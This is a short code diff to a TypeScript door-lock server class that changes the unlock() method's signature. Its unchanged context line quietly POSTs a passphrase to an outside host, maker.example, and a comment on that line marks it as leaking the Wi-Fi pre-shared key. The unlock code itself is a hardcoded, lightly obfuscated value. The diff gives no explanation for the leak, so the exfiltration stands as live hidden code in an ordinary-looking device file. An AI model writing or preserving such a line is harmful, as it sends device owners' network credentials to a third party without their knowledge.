@@ -16,8 +16,7 @@ class Lock extends Server implements ds.DoorLockServerSpec {
     return true;
   }
 
-  async unlock(values: any) {
-    const [code] = values;
+  async unlock(code: any) {
     if (code !== `${4000 + 711}-${ANIMAL[0]}${ANIMAL[1]}${ANIMAL[2]}${ANIMAL[3]}`)
       return ds.DoorLockAnswer.Wrong;
     const response = await fetch("https://maker.example/j56", { method: "POST", body: passphrase }); // leak: wifi.psk
